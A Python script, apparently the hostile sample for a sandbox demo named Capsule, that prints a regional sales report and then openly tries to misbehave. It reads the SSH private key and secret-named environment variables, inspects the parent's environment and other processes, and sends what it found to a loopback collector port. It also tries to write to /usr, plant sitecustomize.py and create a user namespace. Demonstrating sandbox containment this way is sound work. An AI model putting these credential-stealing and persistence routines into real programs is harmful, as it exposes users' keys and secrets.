"""Prints a report of a table of sales. And does what nobody asked it to do.

It stands for any program that comes from somewhere else: a script from a colleague, a dependency's
build step, what a language model wrote. ``demo.py`` runs it twice, without Capsule and with it.

    usage: report.py SALES.CSV COLLECTOR-PORT

The report goes to standard output. A real one would be silent about the rest; this one says on
standard error what came of each attempt, one JSON object a line.
"""

from __future__ import annotations

import csv
import ctypes
import errno
import json
import os
import socket
import statistics
import sys
import tempfile
from collections import defaultdict
from collections.abc import Callable

# --- what it is for ---------------------------------------------------------------------


def report(path: str) -> None:
    with open(path, encoding="utf-8", newline="") as table:
        rows = list(csv.DictReader(table))
    by_region: dict[str, list[float]] = defaultdict(list)
    by_month: dict[str, float] = defaultdict(float)
    units: dict[str, int] = defaultdict(int)
    for row in rows:
        revenue = int(row["units"]) * float(row["price"])
        by_region[row["region"]].append(revenue)
        by_month[row["date"][:7]] += revenue
        units[row["region"]] += int(row["units"])
    total = sum(by_month.values())
    print(f"{'region':<8} {'units':>7} {'revenue':>12} {'share':>7} {'median sale':>12}")
    for region, sales in sorted(by_region.items(), key=lambda item: -sum(item[1])):
        share, median = sum(sales) / total, statistics.median(sales)
        print(f"{region:<8} {units[region]:>7,} {sum(sales):>12,.2f} {share:>7.1%} {median:>12,.2f}")
    print(f"{'total':<8} {sum(units.values()):>7,} {total:>12,.2f}   from {len(rows)} sales")
    for month, revenue in sorted(by_month.items()):
        print(f"{month}  {revenue:>12,.2f}  {'#' * round(32 * revenue / max(by_month.values()))}")


# --- what it tries besides --------------------------------------------------------------


def read_private_key() -> str:
    with open(os.path.expanduser("~/.ssh/id_ed25519"), encoding="utf-8") as key:
        return key.read()


def read_own_environment() -> str:
    secret = ("KEY", "TOKEN", "SECRET", "PASSWORD")
    return " ".join(f"{n}={v}" for n, v in os.environ.items() if any(word in n for word in secret))


def read_parents_environment() -> str:
    """The caller's outside. Inside, the parent is the capsule's init, whose memory is closed."""
    with open(f"/proc/{os.getppid()}/environ", "rb") as environment:
        return f"{len(environment.read())} bytes"


def list_processes() -> str:
    own = {"1", str(os.getpid())}
    others = [name for name in os.listdir("/proc") if name.isdigit() and name not in own]
    return f"{len(others)} processes" if others else ""


def send_away() -> str:
    """To a port of the host's own loopback, where the demo listens: no packet leaves the machine."""
    with socket.create_connection(("127.0.0.1", int(sys.argv[2])), timeout=10) as collector:
        collector.sendall("\n".join(loot).encode())
    return f"{len(loot)} items"


def write_to_system() -> str:
    # A file without a name, or one that is removed at once: nothing is left where this succeeds.
    with tempfile.TemporaryFile(dir="/usr"):
        return "a file"


def write_to_project() -> str:
    with open("sitecustomize.py", "x", encoding="utf-8") as trap:
        trap.write("print('runs whenever Python is started here')\n")
    return "sitecustomize.py"


def become_root_of_namespaces() -> str:
    """Ask the kernel for a user namespace, where root's part of the kernel is within reach."""
    kernel = ctypes.CDLL(None, use_errno=True)
    pid = os.fork()
    if pid == 0:
        os._exit(ctypes.get_errno() if kernel.unshare(0x10000000) else 0)  # CLONE_NEWUSER
    error = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if error:
        raise OSError(error, os.strerror(error))
    return "CLONE_NEWUSER"


ATTEMPTS: dict[str, Callable[[], str]] = {
    "read the private key in ~/.ssh": read_private_key,
    "find secrets in the environment": read_own_environment,
    "read its parent's environment": read_parents_environment,
    "list the other processes": list_processes,
    "send all that to a server": send_away,
    "write to /usr": write_to_system,
    "write into the project": write_to_project,
    "make a user namespace": become_root_of_namespaces,
}
loot: list[str] = []


def attempt(name: str, act: Callable[[], str]) -> None:
    error = ""
    took = ""
    try:
        took = act()
    except OSError as problem:
        error = errno.errorcode.get(problem.errno or 0, str(problem))
    loot.extend([took] if took else [])
    print(json.dumps({"attempt": name, "took": took, "error": error}), file=sys.stderr)


if __name__ == "__main__":
    report(sys.argv[1])
    for title, deed in ATTEMPTS.items():
        attempt(title, deed)
